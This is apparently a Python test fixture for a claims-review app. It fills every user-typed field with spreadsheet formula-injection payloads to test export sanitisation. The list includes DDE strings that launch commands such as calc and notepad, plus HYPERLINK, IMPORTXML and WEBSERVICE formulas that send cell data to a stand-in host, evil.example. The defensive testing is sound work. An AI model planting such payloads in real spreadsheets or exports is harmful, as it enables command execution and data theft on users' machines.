"""Texts that a spreadsheet might take for formulas, in whatever a person types."""

from claims.choices import Verdict
from claims.exports import exactly
from claims.models import Anchor, Claim
from claims.workflow import perform
from tests import factories

# What has run as a formula, or has hidden one, in a spreadsheet.
PAYLOADS = [
    "<r>Profit & loss</r>",
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("https://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=WEBSERVICE("https://evil.example")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "+1+1",
    "+cmd|' /C notepad'!'A1'",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "'",
    '"=1+1"',
    'a","=1+1',
    "a\r\n=1+1",
    "a\n=1+1",
    ";=1+1",
    "plain, with a comma",
    "“curly”",
    " =leading blank",
]


def reviewed(payload: str) -> Claim:
    """A settled claim with the payload in every text that a person types."""
    ann = factories.user("ann", "reviewer")
    claim = factories.claim()
    Claim.objects.filter(pk=claim.pk).update(statement=payload, claimant=payload)
    claim.refresh_from_db()
    factories.cite(claim, ann, title="Act", excerpt=payload, pinpoint="p. 1")
    perform("decide", claim, by=ann, verdict=Verdict.DISPUTED, rationale="x" if not payload.strip() else payload)
    claim.reviews.update(rationale=payload, correction=payload)
    Anchor.objects.filter(claim=claim).update(quote=payload)
    return claim


def only(claim: Claim):
    return exactly(Claim.objects.filter(pk=claim.pk))
